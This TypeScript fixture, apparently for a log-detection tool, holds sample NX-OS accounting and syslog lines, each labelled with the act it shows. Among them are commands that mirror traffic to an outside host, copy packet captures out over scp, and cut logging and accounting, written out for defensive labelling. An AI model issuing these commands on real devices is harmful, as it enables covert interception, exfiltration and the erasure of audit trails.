/** Lines of NX-OS logs and what each shows; its accounting writes the block of a command before it. */
import type { RecordExample } from '../../../facts/log-content/log-source.ts'
import type { RecordAct } from '../../../facts/log-content/record-act.ts'
import { commandExamples, type ExampleCommands, type RecordWriter } from '../../_content/command-examples.ts'
import { SYSLOG } from './sources.ts'

const WRITERS: readonly [RecordWriter, ...RecordWriter[]] = [
  (command, seconds) =>
    `2026 Nov 14 03:12:${seconds} leaf-1 %AAA-6-AAA_ACCOUNTING_MESSAGE: update:192.0.2.10@pts/0:netops-1:${command} (SUCCESS)`,
  (command, seconds) =>
    `<190>: 2026 Nov 14 03:12:${seconds} UTC: %AAA-6-AAA_ACCOUNTING_MESSAGE: update:2001:db8::10@pts/0:netops-1:${command} (SUCCESS)`,
  (command, seconds) =>
    `Sat Nov 14 03:12:${seconds} 2026:type=update:id=192.0.2.10@pts/3:user=netops-1:cmd=${command} (SUCCESS)`,
]
/** A command that did not succeed changed nothing. */
const FAILED: readonly [RecordWriter] = [
  (command, seconds) =>
    `2026 Nov 14 03:12:${seconds} leaf-1 %AAA-6-AAA_ACCOUNTING_MESSAGE: update:console0:netops-9:${command} (FAILURE)`,
]

const ERSPAN_2 = 'erspan session 2'

const TYPED: readonly ExampleCommands[] = [
  {
    acts: ['session-set'],
    commands: [
      'configure terminal ; monitor session 2 type erspan-source',
      'configure terminal ; monitor session 2 type erspan-source ; source interface Ethernet1/1 both',
      'configure terminal ; monitor session 2 type erspan-source ; destination ip 203.0.113.66',
      'configure terminal ; monitor session 2 type erspan-source ; erspan-id 102',
      'configure terminal ; monitor session 2 type erspan-source ; no shut',
    ],
    setup: ERSPAN_2,
  },
  {
    acts: ['session-set'],
    commands: [
      'monitor session 1',
      'conf t ; mon ses 3 ty acl-c',
      'configure terminal ; monitor session 4 rx',
      'configure terminal ; monitor session 1 ; source vlan 10,20-21 rx',
      'configure terminal ; monitor session 1 ; no filter vlan 10',
      'configure terminal ; monitor session 1-3 no shut',
      'configure terminal ; no monitor session 1 shut',
      'configure terminal ; vlan 901 ; remote-span',
    ],
  },
  {
    acts: ['session-removed'],
    commands: [
      'configure terminal ; no monitor session 1',
      'no mon ses all',
      'configure terminal ; no monitor session 2 type erspan-source',
      'configure terminal ; monitor session 1-3 shut',
      'configure terminal ; monitor session 1 ; shut',
      'configure terminal ; monitor session 2 type erspan-source ; no source interface Ethernet1/1',
    ],
  },
  {
    acts: ['capture-set'],
    commands: [
      'ethanalyzer local interface inband capture-filter "host 192.0.2.9" write bootflash:t.pcap',
      'ethanalyzer loc int mgmt',
      'run bash sudo tcpdump -i Eth1-1 -w /bootflash/t.pcap',
      'guestshell run tcpdump -i eth0',
    ],
  },
  { acts: ['capture-exported'], commands: ['copy bootflash:t.pcap scp://netops-1@203.0.113.9/t.pcap vrf management'] },
  {
    acts: ['scripted-mirror'],
    commands: ['configure terminal ; event manager applet TAP ; action 1.0 cli monitor session 1 ; no shut'],
  },
]

const RELATED: readonly ExampleCommands[] = [
  {
    acts: ['logging-cut'],
    commands: ['configure terminal ; no logging server 192.0.2.50', 'no logging logfile', 'clear logging logfile'],
  },
  { acts: ['command-logging-cut'], commands: ['configure terminal ; no logging level aaa', 'logging level aaa 3'] },
  {
    acts: ['accounting-cut'],
    commands: [
      'configure terminal ; no aaa accounting default group TACACS',
      'aaa accounting default local',
      'clear accounting log',
    ],
  },
  {
    acts: ['configuration-copied-in'],
    commands: [
      'copy tftp://192.0.2.9/x running-config',
      'rollback running-config checkpoint before',
      'configure replace bootflash:x',
    ],
  },
  {
    acts: ['aaa-server-changed'],
    commands: [
      'configure terminal ; tacacs-server host 192.0.2.60',
      'configure terminal ; aaa group server tacacs+ OTHER',
      'configure terminal ; no feature tacacs+',
      'configure terminal ; aaa authentication login default local',
    ],
  },
  {
    acts: ['tunnel-changed'],
    commands: [
      'configure terminal ; interface tunnel 7 ; tunnel destination 203.0.113.9',
      'interface nve1 ; member vni 10000',
    ],
  },
  {
    acts: ['route-changed'],
    commands: [
      'configure terminal ; ip route 203.0.113.0/24 192.0.2.99',
      'configure terminal ; route-map AWAY ; set ip next-hop 192.0.2.99',
    ],
  },
  { acts: ['translation-changed'], commands: ['ip nat inside source static 198.51.100.9 203.0.113.9'] },
  { acts: ['filter-changed'], commands: ['configure terminal ; ip access-list TAP ; permit ip any any'] },
  { acts: ['image-changed'], commands: ['boot nxos bootflash:other.bin', 'install all nxos bootflash:other.bin'] },
  {
    acts: ['shell-entered'],
    commands: ['run bash', 'guestshell', 'configure terminal ; feature bash-shell', 'python'],
  },
]

const BENIGN: ExampleCommands = {
  acts: [],
  commands: [
    'show monitor session all',
    'configure terminal ; interface Ethernet1/1 ; description monitor session 1 uplink',
    'configure terminal ; interface Ethernet1/1 ; shutdown',
    'configure terminal ; interface Ethernet1/1 ; no shut',
    'configure terminal ; monitor erspan origin ip-address 192.0.2.1 global',
    'ethanalyzer local read bootflash:t.pcap',
    'configure terminal ; logging level aaa 6',
    'configure terminal ; aaa accounting default group TACACS',
    'copy running-config startup-config',
    'terminal length 0',
    'configure terminal ; no feature bash-shell',
  ],
}

const MESSAGES: readonly (readonly [acts: readonly RecordAct[], text: string])[] = [
  [
    ['capture-set'],
    '%AUTHPRIV-5-SYSTEM_MSG: netops-1 : TTY=pts/0 ; PWD=/bootflash ; USER=root ; COMMAND=/usr/sbin/tcpdump -i Eth1-1 -w /bootflash/x.pcap - sudo',
  ],
  [[], '%AUTHPRIV-5-SYSTEM_MSG: netops-1 : TTY=pts/0 ; PWD=/bootflash ; USER=root ; COMMAND=/bin/ls - sudo'],
  [['configuration-edited'], '%VSHD-5-VSHD_SYSLOG_CONFIG_I: Configured from vty by netops-1 on 192.0.2.10@pts/0'],
  [['aaa-fallback-local'], '%TACACS-3-TACACS_ERROR_MESSAGE: All servers failed to respond'],
  [[], '%TACACS-3-TACACS_ERROR_MESSAGE: server 192.0.2.60 added'],
  [[], '%MIRROR-6-ETH_SPAN_SESSION_UP: Session 3 state is up'],
  [[], '%ETHPORT-5-IF_UP: Interface Ethernet1/48 is up in mode monitor'],
  [[], '%AAA-6-AAA_ACCOUNTING_MESSAGE: stop:192.0.2.10@pts/0:netops-1:shell terminated gracefully'],
]

export const examples: readonly RecordExample[] = [
  ...commandExamples(SYSLOG, WRITERS, [...TYPED, ...RELATED, BENIGN]),
  ...commandExamples(SYSLOG, FAILED, [
    {
      acts: ['session-refused'],
      commands: [
        'configure terminal ; monitor session 5',
        'configure terminal ; no monitor session 5',
        'ethanalyzer local interface inband write bootflash:u.pcap',
      ],
    },
    {
      acts: [],
      commands: [
        'configure terminal ; no logging server 192.0.2.51',
        'copy bootflash:u.pcap scp://netops-1@203.0.113.9/u.pcap vrf management',
        'configure terminal ; event manager applet TAP2 ; action 1.0 cli monitor session 5 ; no shut',
      ],
    },
  ]),
  ...MESSAGES.map(([acts, text]) => ({
    name: text.slice(0, 120),
    source: SYSLOG,
    text: `2026 Nov 14 03:12:09 leaf-1 ${text}`,
    acts,
  })),
]
